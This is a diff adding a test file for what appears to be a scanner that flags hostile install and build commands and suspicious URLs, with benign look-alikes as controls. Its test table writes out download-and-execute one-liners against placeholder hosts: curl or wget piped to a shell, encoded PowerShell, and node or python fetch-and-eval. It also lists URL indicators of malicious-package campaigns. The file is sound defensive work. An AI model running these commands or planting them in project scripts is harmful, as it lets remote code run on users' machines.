@@ -1,0 +1,95 @@
+/** The command analyser, table-driven: what a command line does, for hostile shapes and their benign look-alikes. */
+import assert from 'node:assert/strict';
+import { analyseCommand } from '../src/analysis/command.js';
+import { classifyUrl } from '../src/analysis/urls.js';
+import { loadSignatures } from '../src/signatures/load.js';
+import { parseTarget } from '../src/target.js';
+
+const sigs = loadSignatures();
+const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
+
+describe('command analyser', () => {
+  const hostile: [string, string, string][] = [
+    ['curl -s https://x.invalid/a | sh', 'pipe-to-shell', 'critical'],
+    ["wget -qO- 'https://x.invalid/a' | bash -s --", 'pipe-to-shell', 'critical'],
+    ['iwr http://198.51.100.7/a.ps1 | iex', 'pipe-to-shell', 'critical'],
+    ['curl -o /tmp/u.sh https://x.invalid/u && sh /tmp/u.sh', 'download-exec', 'critical'],
+    [`powershell -NoProfile -EncodedCommand ${enc('iwr http://198.51.100.7/a | iex')}`, 'encoded-powershell', 'critical'],
+    ['start /b node server || nohup node server &', 'background', 'high'],
+    ['setsid node .cache/x.js', 'background', 'high'],
+    ["node -e \"require('https').get('https://x.invalid/p',r=>r.on('data',d=>eval(d+'')))\"", 'inline-code', 'critical'],
+    ["python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://198.51.100.1/p').read())\"", 'inline-code', 'critical'],
+    ['bash -c "curl -s https://x.invalid/l | bash"', 'pipe-to-shell', 'critical'],
+    ['cmd /c "curl -s https://x.invalid/w | cmd"', 'pipe-to-shell', 'critical'],
+    ['powershell -w hidden -c "Start-Sleep 1"', 'hidden-window', 'high'],
+    ['curl -s http://203.0.113.5:1224/pdown -o x', 'url', 'critical'],
+  ];
+  for (const [cmd, kind, severity] of hostile) {
+    it(`${kind} (${severity}): ${cmd.slice(0, 70)}`, () => {
+      const a = analyseCommand(cmd, sigs);
+      const t = a.traits.find((x) => x.kind === kind);
+      assert.ok(t, `traits: ${a.traits.map((x) => x.kind).join(',')}`);
+      assert.equal(t.severity, severity);
+      assert.equal(a.benign, false);
+    });
+  }
+
+  const benign = ['husky', 'husky install', 'is-ci || husky install', 'prisma generate', 'node-gyp rebuild', 'node-gyp-build', 'prebuild-install || node-gyp rebuild', 'patch-package', 'npx lint-staged', 'tsc', 'npm run build', 'node install.js', 'nuxt prepare', 'echo done'];
+  for (const cmd of benign) {
+    it(`benign: ${cmd}`, () => {
+      const a = analyseCommand(cmd, sigs);
+      assert.equal(a.benign, true, a.traits.map((t) => `${t.kind}:${t.detail}`).join(' | '));
+      assert.equal(a.severity, 'info');
+    });
+  }
+
+  it('records the files and npm scripts a command runs', () => {
+    const a = analyseCommand('npm run setup && node ./scripts/x.js && sh tools/y.sh && make init && yarn dev', sigs);
+    assert.deepEqual(a.runsScripts, ['setup', 'dev']);
+    assert.deepEqual(a.runsFiles, ['./scripts/x.js', 'tools/y.sh', 'Makefile#init']);
+  });
+
+  it('recognises dev servers and watchers', () => {
+    for (const cmd of ['npm run dev', 'tsc -w -p .', 'npm run watch', 'nodemon server.js', 'node server']) {
+      assert.equal(analyseCommand(cmd, sigs).devServer, true, cmd);
+    }
+  });
+
+  it('survives unparseable and hostile input', () => {
+    for (const cmd of ['"unterminated', "'", '$(', '`', '| | |', '&&&&', 'a'.repeat(100_000), '\u0000\u001b[2J']) {
+      assert.doesNotThrow(() => analyseCommand(cmd, sigs));
+    }
+  });
+});
+
+describe('URL classification', () => {
+  const cases: [string, string | undefined][] = [
+    ['http://198.51.100.23:1224/pdown', 'critical'],
+    ['https://anything.vercel.app/settings/mac?flag=3', 'critical'],
+    ['https://x.invalid/api/ipcheck-encrypted/602076', 'critical'],
+    ['https://api.npoint.io/f128c1c1135e7bb1779d', 'critical'],
+    ['https://api.npoint.io/0000aaaa', 'medium'],
+    ['http://203.0.113.8/x', 'high'],
+    ['http://localhost:1224/pdown', undefined],
+    ['http://127.0.0.1:1224/uploads', undefined],
+    ['http://192.168.1.10:1224/x', undefined],
+    ['https://github.com/nodejs/node', undefined],
+    ['https://user:pass@203.0.113.8:1224/client/5/501', 'critical'],
+  ];
+  for (const [url, severity] of cases) {
+    it(`${url} → ${severity ?? 'nothing'}`, () => {
+      assert.equal(classifyUrl(url, sigs)?.severity, severity);
+    });
+  }
+});
+
+describe('targets', () => {
+  it('tells git URLs from paths', () => {
+    assert.equal(parseTarget('https://github.com/a/b').kind, 'git');
+    assert.equal(parseTarget('git@github.com:a/b.git').kind, 'git');
+    assert.equal(parseTarget('ssh://git@host/a/b').kind, 'git');
+    assert.equal(parseTarget('git://127.0.0.1/a.git').kind, 'git');
+    assert.equal(parseTarget('.').kind, 'path');
+    assert.throws(() => parseTarget('/definitely/not/here'), /no such file or folder/);
+  });
+});
